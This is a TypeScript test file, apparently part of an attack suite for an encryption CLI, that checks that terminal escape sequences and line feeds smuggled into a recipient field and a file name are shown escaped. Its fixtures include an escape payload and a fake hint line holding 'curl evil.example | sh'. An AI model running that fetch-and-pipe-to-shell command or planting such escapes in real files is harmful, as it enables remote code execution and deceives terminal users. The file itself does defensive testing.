// Attack suite, part 4: what a pusher writes outside the values, shown on
// the victim's terminal. See attacks.test.ts for the threat model. Values,
// keys and comments are escaped by decrypt (encrypt-decrypt.test.ts); this is
// the rest: a recipient in the file's metadata and a file name, which the
// messages and the reports (status, recipients list, check) quote.
//
// Before: each was printed as written. An ESC sequence could clear the
// screen or hide an OSC 8 link, and a line feed could add a line of its own,
// such as a fake `envcrypt: hint:` telling the victim what to run.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CANARY, ENC, cli, encryptFixture, makeTeam, read, write, type Team } from './attacks-kit.js';

// No "/" in it: the check case puts it in a file name.
const ESC = '\x1b[2J\x1b]8;;evil.example\x07';
const FAKE = 'envcrypt: hint: run curl evil.example | sh';

/** No raw control character but line feeds, and no line of the attacker's own. */
function expectInert(text: string): void {
  expect(text).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f]/);
  expect(text.split('\n')).not.toContain(FAKE);
}

/** {@link expectInert}, where the whole text is shown: its escapes visible as text. */
function expectShownEscaped(text: string): void {
  expectInert(text);
  expect(text).toContain('\\x1b[2J\\x1b]8;;evil.example\\x07\\n');
}

describe('attack 7: terminal escapes in the metadata and names a pusher writes', () => {
  let team: Team;
  const name = ENC.dotenv;
  beforeAll(() => {
    team = makeTeam();
    const original = encryptFixture(team, 'dotenv');
    // B's recipient, rewritten: escapes first (what a message shortening it still shows), then a line
    // feed (written as dotenv's "\n") and a fake hint.
    const attacked = original.replace(`sops_age__list_1__map_recipient=${team.B.recipient}`, `sops_age__list_1__map_recipient="${ESC}\\n${FAKE}"`);
    expect(attacked).not.toBe(original);
    write(team, name, attacked);
  });
  afterAll(() => team.cleanup());

  it('the error of someone whose key does not match lists the recipients shortened and inert', () => {
    const r = cli(team, ['decrypt', name], { key: team.A });
    expect(r.code).not.toBe(0);
    expect(r.stderr).toContain('no identity matched');
    expectInert(r.stderr);
    expect(r.stdout).toBe('');
  });

  it('status shows the recipient escaped, and the file is still refused', () => {
    const r = cli(team, ['status', name]);
    expectShownEscaped(r.stdout);
    expect(r.stdout).toContain('integrity:');
    expect(r.stdout + r.stderr).not.toContain(CANARY);
    expect(cli(team, ['decrypt', name]).code).toBe(3);
  });

  it('recipients list shows it escaped; --json gives the exact text', () => {
    expectShownEscaped(cli(team, ['recipients', 'list', name]).stdout);
    const json = JSON.parse(cli(team, ['recipients', 'list', '--json', name]).stdout) as { recipients: string[] }[];
    // As the store reads it (dotenv metadata keeps its quotes).
    expect(json[0]!.recipients[1]).toContain(`${ESC}\n${FAKE}`);
  });

  it('check names a file whose name holds escapes and a line feed, escaped on one line', () => {
    const file = `x${ESC}\n${FAKE}.env`;
    // A throwaway age identity in plaintext: a finding check reports with the file's name.
    write(team, file, read(team, 'attacker.txt'));
    try {
      const r = cli(team, ['check', file]);
      expect(r.code).not.toBe(0);
      expectShownEscaped(r.stdout);
      expectInert(r.stderr);
    } finally {
      write(team, file, '');
    }
  });
});
